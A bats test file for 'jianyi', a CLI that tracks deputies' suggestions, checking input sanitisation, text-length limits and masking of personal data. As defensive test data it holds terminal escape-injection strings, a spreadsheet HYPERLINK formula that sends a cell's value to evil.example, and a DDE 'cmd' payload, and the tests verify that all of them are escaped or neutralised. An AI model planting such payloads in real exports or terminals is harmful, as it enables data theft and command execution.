#!/usr/bin/env bats
# Text is never cut, never drives a terminal or a spreadsheet, and personal
# data stays masked (issue 11, items 3, 4 and 5; outside tests r5-r10, r24).

load helper

@test "r5: a NUL byte in --content - or --text - is refused as a control character" {
	town
	refused 1 'content has a control character' \
	    add --title x --content - --date 2023-01-05 < <(printf '第一段\000第二段')
	n=$(j add --title x --date 2023-01-05)
	j assign "$n" --dept 规划建设办 --date 2023-01-06
	refused 1 'reply text has a control character' \
	    reply "$n" --dept 规划建设办 --class A --text - --date 2023-01-07 \
	    < <(printf '已答复\000其余')
	# Without the NUL, the same text goes in whole.
	printf '已答复\n其余' | j reply "$n" --dept 规划建设办 --class A --text - --date 2023-01-07
	run sfield "$n" 'replies[0].text'
	expect_output <<<$'已答复\n其余'
}

@test "r9: control characters in CSV cells and headers are shown escaped in messages" {
	j init >/dev/null
	printf 'number,received_on,title,source\n2023-0100,\033]0;PWNED\007\033[2J\033[H,路灯,\033[8m\n' >evil.csv
	refused_all 1 import suggestions evil.csv <<-'EOF2'
	jianyi: evil.csv:2: received_on: invalid date '\x1b]0;PWNED\x07\x1b[2J\x1b[H'
	jianyi: evil.csv:2: source: invalid value '\x1b[8m' (use reception|session|group|online|other)
	jianyi: evil.csv: 1 bad row; nothing imported
	EOF2
	printf '\033[1;31mFAKE\033[0m,标题\n' >evil2.csv
	refused 1 "evil2.csv:1: unknown header '\\x1b[1;31mFAKE\\x1b[0m' (known: number, received_on, station, source, title, content, category, submitter, phone, lead_deputy, cosigners, department, co_departments, assigned_on, due_on, replied_on, class, reply, rated_on, rating, handler, contacts, note, reply_department, signed, supervisor, supervised_on, merged_into, not_accepted, recurring, no); --skip-unknown-columns imports the other columns" \
	    import suggestions evil2.csv
}

@test "r9: argv values in messages show C0, DEL, C1 and invalid bytes escaped; valid UTF-8 unchanged" {
	j init >/dev/null
	refused 1 "no suggestion numbered '黄塘\\x1b[2J\\x07\\x7f\\xc2\\x9b\\xff\\xe9\\x0a'" \
	    show $'黄塘\e[2J\a\x7f\xc2\x9b\xff\xe9\n'
	# A file name in an error from the C library (err(3)'s warn).
	refused 1 "tab\\x09\\x1b.csv: No such file or directory" \
	    import suggestions $'tab\t\e.csv'
}

@test "r9: JIANYI_USER is validated like any name" {
	j init >/dev/null
	JIANYI_USER=$'\e]0;owned\a\e[2J' refused 2 'JIANYI_USER has a control character' \
	    add --title x --date 2023-01-05
	JIANYI_USER=$'\xff' refused 2 'JIANYI_USER is not valid UTF-8' \
	    add --title x --date 2023-01-05
	JIANYI_USER=$(printf '%061d' 0) refused 2 \
	    'JIANYI_USER is too long (61 characters; at most 60)' list
	# $USER, when JIANYI_USER is not set, is checked the same way.
	(unset JIANYI_USER; USER=$'a\eb' refused 2 'USER has a control character' list)
	JIANYI_USER=秘书 j add --title x --date 2023-01-05
	run j log
	expect_table <<-'EOF2'
	date        number     action      detail         by
	2023-01-05  2023-0001  registered  source: other  秘书
	EOF2
}

@test "r9: stored control characters (an old database) are escaped in text tables" {
	town
	j add --title 路灯 --date 2023-01-05 >/dev/null
	sqlite3 "$JIANYI_DB" "UPDATE suggestion SET title = '路灯' || char(27) || '[2J' || char(9) || 'x' || char(10) || 'y';
	    UPDATE event SET actor = char(27) || ']0;owned' || char(7)"
	run j list
	[ "$status" -eq 0 ]
	expect_table <<-'EOF2'
	number     status      overdue  received    station  department  due  submitter  title
	2023-0001  registered           2023-01-05  -        -           -    -          路灯\x1b[2J x y
	EOF2
	run j log 2023-0001
	[ "$status" -eq 0 ]
	expect_table <<-'EOF2'
	date        number     action      detail         by
	2023-01-05  2023-0001  registered  source: other  \x1b]0;owned\x07
	EOF2
}

@test "r24: CSV cells that a spreadsheet would run get a leading apostrophe, and import reads them back unchanged" {
	town
	j add --title '=HYPERLINK("http://evil.example/?"&B2,"详情")' \
	    --category "=cmd|'/C calc'!A0" --submitter '@李四' \
	    --phone '+86 139 1111 2222' --content "'=已有撇号" \
	    --date 2023-01-05 >/dev/null
	j add --title '-2' --category "'a" --date 2023-01-06 >/dev/null
	run j export suggestions --with-personal-data
	[ "$status" -eq 0 ]
	[ "${lines[1]}" = $'2023-0001,2023-01-05,,其他,"\'=HYPERLINK(""http://evil.example/?""&B2,""详情"")",\'\'=已有撇号,\'=cmd|\'/C calc\'!A0,\'@李四,\'+86 139 1111 2222,,,,,,,,,,,,,,,,,,,,,\r' ] || { echo "${lines[1]}" | cat -A; return 1; }
	[ "${lines[2]}" = $'2023-0002,2023-01-06,,其他,-2,,\'a,,,,,,,,,,,,,,,,,,,,,,,\r' ] || { echo "${lines[2]}" | cat -A; return 1; }
	printf '%s\n' "$output" >all.csv
	run j list --format csv
	[ "${lines[1]}" = $'2023-0001,registered,0,2023-01-05,,,,\'@**,"\'=HYPERLINK(""http://evil.example/?""&B2,""详情"")"\r' ] || { echo "${lines[1]}" | cat -A; return 1; }
	# The round trip: a new database gets every value back unchanged.
	sfield 2023-0001 'title,.category,.submitter,.phone,.content' >want
	sfield 2023-0002 'title,.category' >>want
	JIANYI_DB=$TMP/new.db j init >/dev/null
	JIANYI_DB=$TMP/new.db j import suggestions all.csv
	JIANYI_DB=$TMP/new.db sfield 2023-0001 'title,.category,.submitter,.phone,.content' >got
	JIANYI_DB=$TMP/new.db sfield 2023-0002 'title,.category' >>got
	diff want got
	[ "$(sed -n 1p got)" = '=HYPERLINK("http://evil.example/?"&B2,"详情")' ]
	# Exporting the new database gives the same file, byte for byte.
	JIANYI_DB=$TMP/new.db j export suggestions --with-personal-data >again.csv
	cmp all.csv again.csv
}

@test "r6: a 22-character number is kept whole; one over 32 characters is refused, naming the limit" {
	j init >/dev/null
	N='A关于编号的测试关于编号的测试关于编号的测试'
	printf 'number,received_on,title\n%s,2023-01-05,长编号\n' "$N" >n.csv
	j import suggestions n.csv
	[ "$(sqlite3 "$JIANYI_DB" 'SELECT number FROM suggestion')" = "$N" ]
	run sfield "$N" number
	[ "$output" = "$N" ]
	run j import suggestions n.csv
	[ "$status" -eq 0 ]
	[ "$output" = 'n.csv (UTF-8): 1 row: 0 added, 0 updated, 1 unchanged' ]
	j list --format json | python3 -c 'import sys,json; json.loads(sys.stdin.buffer.read().decode())'
	# 32 characters, the limit, are taken; 33 are refused.
	L='C关于编号的测试关于编号的测试关于编号的测试关于编号的测试测试测'
	[ "${#L}" -eq 32 ]
	printf 'number,received_on,title\n%s,2023-01-05,长编号\n' "$L" >l.csv
	j import suggestions l.csv
	run sfield "$L" number
	[ "$output" = "$L" ]
	M='B关于编号的测试关于编号的测试关于编号的测试关于编号的测试测试测试'
	[ "${#M}" -eq 33 ]
	printf 'number,received_on,title\n%s,2023-01-05,长编号\n' "$M" >m.csv
	refused_all 1 import suggestions m.csv <<-'EOF2'
	jianyi: m.csv:2: number: too long (33 characters; at most 32)
	jianyi: m.csv: 1 bad row; nothing imported
	EOF2
}

@test "r7: event details are never cut: a long rating note, a long activity title, many co-departments" {
	town
	n=$(j add --title 路灯 --date 2023-01-05)
	j assign "$n" --dept 规划建设办 --date 2023-01-06
	j reply "$n" --dept 规划建设办 --class B --date 2023-01-07
	note="a$(printf '答复没有解决问题%.0s' $(seq 50))"
	j rate "$n" unsatisfied --note "$note" --date 2023-01-08
	run j log "$n" --format json
	[ "$status" -eq 0 ]
	python3 -c 'import sys,json; json.loads(sys.stdin.buffer.read().decode())' <<<"$output"
	[ "$(jq -r '.[-1].detail' <<<"$output")" = "unsatisfied; rehandling, due: 2023-02-08: $note" ]
	run sfield "$n" 'history[-1].detail'
	[ "$output" = "unsatisfied; rehandling, due: 2023-02-08: $note" ]
	# 200 characters of title (800 bytes) in an activity's event.
	title=$(printf '𠀀%.0s' $(seq 200))
	j activity add --kind survey --date 2023-01-09 --title "$title"
	run --separate-stderr j log --format json --limit 1
	[ "$(jq -r '.[0].detail' <<<"$output")" = "survey: $title" ]
	# Twenty co-departments of 60 characters each: 3,600 bytes of detail.
	cos=()
	for i in $(seq 10 29); do
		d="部门$(printf '很长的名字%.0s' $(seq 11))$i"
		j dept add "$d"
		cos+=(--co "$d")
	done
	m=$(j add --title 修路 --date 2023-01-05)
	j assign "$m" --dept 规划建设办 "${cos[@]}" --date 2023-01-06
	want="lead: 规划建设办; co: $(for i in $(seq 10 29); do printf '部门%s%s、' "$(printf '很长的名字%.0s' $(seq 11))" "$i"; done | sed 's/、$//'); due: 2023-04-06"
	run sfield "$m" 'history[-1].detail'
	[ "$output" = "$want" ]
}

@test "r8: 65 cosigners are all kept, a cell over 4095 bytes is never cut, over 100 is refused" {
	j init >/dev/null
	python3 -c "print('number,received_on,title,cosigners'); print('2023-0100,2023-01-05,t,'+';'.join(['代表%02d'%i for i in range(64)]+['王小明']))" >a.csv
	j import suggestions a.csv >/dev/null
	run sfield 2023-0100 'cosigners|length'
	[ "$output" = 65 ]
	run sfield 2023-0100 'cosigners[64]'
	[ "$output" = 王小明 ]
	python3 -c "
n=['人大代表名字很长的一位人大代表第%02d号长长长长长长'%i for i in range(53)]
while len(';'.join(n).encode())<4025: n.append('Deputy_%02d_'%len(n)+'x'*40)
n+=['Zhang_San_Feng_the_last_cosigner_of_this_suggestion','王小明']
print('number,received_on,title,cosigners'); print('2023-0200,2023-01-05,t,'+';'.join(n))" >b.csv
	[ "$(tail -1 b.csv | wc -c)" -gt 4096 ]
	j import suggestions b.csv >/dev/null
	run sfield 2023-0200 'cosigners[-2:]|join(",")'
	[ "$output" = 'Zhang_San_Feng_the_last_cosigner_of_this_suggestion,王小明' ]
	# Every name in the cell is a deputy, and no other (no cut name).
	[ "$(sqlite3 "$JIANYI_DB" "SELECT count(*) FROM deputy WHERE name LIKE 'Zhang%'")" = 1 ]
	run sfield 2023-0200 'cosigners|length'
	[ "$output" = "$(tail -1 b.csv | cut -d, -f4 | tr ';' '\n' | wc -l)" ]
	python3 -c "print('number,received_on,title,cosigners'); print('2023-0300,2023-01-05,t,'+'、'.join(['代表%03d'%i for i in range(101)]))" >c.csv
	refused_all 1 import suggestions c.csv <<-'EOF2'
	jianyi: c.csv:2: cosigners: too many names (101; at most 100)
	jianyi: c.csv: 1 bad row; nothing imported
	EOF2
	# The same limit on the command line, before anything is written.
	args=()
	for i in $(seq 0 100); do args+=(--cosigner "代表$(printf %03d "$i")"); done
	refused 1 'too many cosigners (101; at most 100)' add --title t --date 2023-01-05 "${args[@]}"
	j station add 黄塘
	args=()
	for i in $(seq 0 100); do args+=(--deputy "代表$(printf %03d "$i")"); done
	refused 1 'too many deputies (101; at most 100)' reception add --station 黄塘 \
	    --visitors 3 --date 2023-01-05 "${args[@]}"
	# 100 are taken, every one.
	{ echo name; for i in $(seq 1 100); do echo "代表$(printf %03d "$i")"; done; } >d.csv
	j import deputies d.csv >/dev/null
	j reception add --station 黄塘 --visitors 3 --date 2023-01-05 "${args[@]:2}"
	[ "$(sqlite3 "$JIANYI_DB" 'SELECT count(*) FROM reception_deputy')" = 100 ]
	# Co-handling departments: the same limit, before anything is written.
	j dept add 规划建设办
	n=$(j add --title t --date 2023-01-05)
	args=()
	for i in $(seq 0 100); do args+=(--co "部门$(printf %03d "$i")"); done
	refused 1 'too many co-handling departments (101; at most 100)' \
	    assign "$n" --dept 规划建设办 --date 2023-01-06 "${args[@]}"
}

@test "r10: log never shows personal data: the history says it changed, and old details are masked" {
	j init >/dev/null
	j add --title 路灯 --date 2023-01-05 >/dev/null
	printf 'number,received_on,title,submitter,phone\n2023-0001,2023-01-05,路灯,李四,13911112222\n' >fill.csv
	j import suggestions fill.csv >/dev/null
	run j log
	expect_table <<-'EOF2'
	date        number     action      detail             by
	2023-01-05  2023-0001  registered  source: other      secretary
	2023-03-31  2023-0001  edited      submitter changed  secretary
	2023-03-31  2023-0001  edited      phone changed      secretary
	EOF2
	# show is the case file: it has the values.
	run sfield 2023-0001 'submitter,.phone'
	expect_output <<-'EOF2'
	李四
	13911112222
	EOF2
	# A database written before: its details carry the values, in
	# either language; log masks them in every format.
	sqlite3 "$JIANYI_DB" "UPDATE event SET detail = 'submitter: 李四' WHERE id = (SELECT max(id) - 1 FROM event);
	    UPDATE event SET detail = '联系电话: 13911112222' WHERE id = (SELECT max(id) FROM event)"
	run j log 2023-0001
	expect_table <<-'EOF2'
	date        number     action      detail                 by
	2023-01-05  2023-0001  registered  source: other          secretary
	2023-03-31  2023-0001  edited      submitter: 李**        secretary
	2023-03-31  2023-0001  edited      联系电话: 139****2222  secretary
	EOF2
	run j log --format json
	[ "$(jq -r '.[].detail' <<<"$output")" = $'source: other\nsubmitter: 李**\n联系电话: 139****2222' ]
	run j log --format csv
	[[ "$output" != *李四* ]]
	[[ "$output" != *13911112222* ]]
}

@test "check: every stored text is valid UTF-8 with no NUL byte, in every table" {
	town
	j add --title 路灯 --content 内容 --date 2023-01-05 >/dev/null
	run j check
	[ "$status" -eq 0 ]
	[ "$output" = ok ]
	# A cut character, a NUL byte, a lone 0xff (stored as a blob), a
	# surrogate: what an older version or another program could leave.
	sqlite3 "$JIANYI_DB" "UPDATE suggestion SET title = CAST(X'E8B7AFE7' AS TEXT), content = '内' || char(0) || '容';
	    UPDATE event SET detail = X'FF' WHERE id = 1;
	    UPDATE station SET village = CAST(X'EDA080' AS TEXT) WHERE name = '黄塘';
	    UPDATE config SET value = value || CAST(X'C0AF' AS TEXT) WHERE key = 'town'"
	run j check
	[ "$status" -eq 3 ]
	expect_output <<-'EOF2'
	text: a row of config.value is not valid UTF-8 text
	text: event.detail of row 1 is not valid UTF-8 text
	text: station.village of row 1 is not valid UTF-8 text
	text: suggestion.title of row 1 is not valid UTF-8 text
	text: suggestion.content of row 1 is not valid UTF-8 text
	5 problems found
	EOF2
}

# The property test of item 11: random UTF-8 (4-byte characters, long runs,
# combining marks, CJK, up to each field's limit) through every text field
# comes back from show --format json byte for byte, and through export and
# import. randutf8.py makes the values from a fixed seed.
@test "random UTF-8 in every text field comes back from show --format json byte for byte" {
	local gen="$BATS_TEST_DIRNAME/randutf8.py" k n v
	python3 "$gen" gen 1630 12 cases
	for k in $(seq 0 11); do
		local c="cases/$k"
		v() { cat "$c/$1"; }
		export JIANYI_DB="$TMP/$k.db"
		j init >/dev/null
		j station add "$(v station)"
		j dept add "$(v dept)"
		j dept add "$(v co)"
		j deputy add "$(v deputy)"
		j deputy add "$(v cosigner1)"
		j deputy add "$(v cosigner2)"
		n=$(j add --title "$(v title)" --content - --station "$(v station)" \
		    --category "$(v category)" --submitter "$(v submitter)" \
		    --deputy "$(v deputy)" --cosigner "$(v cosigner1)" \
		    --cosigner "$(v cosigner2)" --date 2023-01-05 <"$c/content")
		j assign "$n" --dept "$(v dept)" --date 2023-01-05
		j return "$n" --dept "$(v dept)" --reason "$(v return_reason)" \
		    --date 2023-01-05
		j assign "$n" --dept "$(v dept)" --co "$(v co)" \
		    --handler "$(v handler)" --date 2023-01-06
		j contact "$n" --dept "$(v dept)" --note "$(v contact_note)" \
		    --date 2023-01-06
		j extend "$n" --due 2023-07-01 --reason "$(v extend_reason)" \
		    --date 2023-01-07 --approved-by 镇长
		j reply "$n" --dept "$(v dept)" --class A --text - \
		    --date 2023-01-08 <"$c/reply"
		j rate "$n" unsatisfied --note "$(v rating_note)" --date 2023-01-09
		j show "$n" --format json >"$c/show.json"
		python3 "$gen" check "$c"
		run j check
		[ "$output" = ok ]
		# Through the ledger: what it carries comes back the same.
		j export suggestions --with-personal-data -o "$c/all.csv"
		JIANYI_DB="$TMP/$k-again.db" j init >/dev/null
		JIANYI_DB="$TMP/$k-again.db" j import suggestions "$c/all.csv" >/dev/null
		local keys='{number,title,content,category,submitter,phone,station,lead_deputy,cosigners,departments:[.departments[]|{name,role}],replies:[.replies[]|{class,text}],ratings:[.ratings[]|.rating]}'
		jq -S "$keys" "$c/show.json" >"$c/want"
		JIANYI_DB="$TMP/$k-again.db" j show "$n" --format json | jq -S "$keys" >"$c/got"
		diff "$c/want" "$c/got"
	done
}

@test "r7: a town's name of 60 four-byte characters heads every report whole" {
	town=$(printf '𠀀%.0s' $(seq 59))镇
	j init --town "$town" >/dev/null
	run j config get town
	[ "$output" = "$town" ]
	run j report --year 2023 --format json
	[ "$(jq -r .town <<<"$output")" = "$town" ]
	for f in text md html; do
		run j report --year 2023 --format "$f"
		[ "$status" -eq 0 ]
		want="$town: deputies' suggestions, annual report"
		# HTML escapes the apostrophe (issue 12, item 8).
		[ "$f" != html ] || want="$town: deputies&#39; suggestions, annual report"
		[[ "$output" == *"$want"* ]] || { echo "$f: ${lines[0]}"; return 1; }
	done
}

@test "r8, r9: show's case file lists 100 cosigners whole and escapes stored control characters" {
	j init >/dev/null
	python3 -c "print('number,received_on,title,cosigners,content'); print('2023-0001,2023-01-05,t,'+';'.join(['人大代表名字很长的一位人大代表第%03d号'%i for i in range(100)])+',\"第一行\n\t第二行\"')" >a.csv
	j import suggestions a.csv >/dev/null
	want=$(python3 -c "print('、'.join(['人大代表名字很长的一位人大代表第%03d号'%i for i in range(100)]))")
	run j show 2023-0001
	[ "$status" -eq 0 ]
	[ "$(grep '^  cosigners' <<<"$output")" = "  cosigners     $want" ]
	sqlite3 "$JIANYI_DB" "UPDATE suggestion SET title = 'x' || char(27) || '[2J', content = content || char(7);
	    UPDATE event SET detail = '{\"source\":\"other' || char(155) || '\"}' WHERE action = 'registered'"
	run j show 2023-0001
	[ "$(grep '^  title' <<<"$output")" = '  title         x\x1b[2J' ]
	[[ "$output" == *$'\n  content\n    第一行\n    \t第二行\\x07\n'* ]]
	[[ "$output" == *'registered  source: other\xc2\x9b'* ]]
	[[ "$output" != *$'\e'* ]]
	[[ "$output" != *$'\a'* ]]
}

@test "r6: a file name over 1,024 bytes is named whole in an import's messages" {
	j init >/dev/null
	d=.
	for i in 1 2 3 4 5 6; do d="$d/$(printf '目录%.0s' $(seq 40))$i"; done
	mkdir -p "$d"
	printf 'number,received_on,title\n2023-0001,2023-02-30,t\n' >"$d/a.csv"
	[ "${#d}" -gt 400 ]
	[ "$(printf %s "$d" | wc -c)" -gt 1024 ]
	refused_all 1 import suggestions "$d/a.csv" <<-EOF2
	jianyi: $d/a.csv:2: received_on: invalid date '2023-02-30'
	jianyi: $d/a.csv: 1 bad row; nothing imported
	EOF2
}

@test "r9: the report's tables (text, md, html) show a stored control character escaped" {
	town
	j add --title 路灯 --station 黄塘 --date 2023-01-05 >/dev/null
	sqlite3 "$JIANYI_DB" "UPDATE station SET name = '黄塘' || char(27) || '[2J' WHERE name = '黄塘'"
	for f in text md html; do
		run j report --year 2023 --format "$f"
		[ "$status" -eq 0 ]
		[[ "$output" == *'黄塘\x1b[2J'* ]] || { echo "$f: no escaped name"; return 1; }
		[[ "$output" != *$'\e'* ]] || { echo "$f: a raw ESC"; return 1; }
	done
}

@test "r5: a NUL byte in the text an editor saves (add --edit) is refused, never the end of the text" {
	j init >/dev/null
	cat >"$TMP/ed" <<'SH'
#!/bin/sh
printf '第一段\000第二段\n' >"$1"
SH
	chmod +x "$TMP/ed"
	EDITOR="$TMP/ed" refused 1 'content has a control character' \
	    add --title x --edit --date 2023-01-05
}

@test "r9: init names a database path with control characters escaped" {
	run j --db $'new\e]0;x\a.db' init
	[ "$status" -eq 0 ]
	[ "$output" = 'created new\x1b]0;x\x07.db' ]
	[ -f $'new\e]0;x\a.db' ]
}
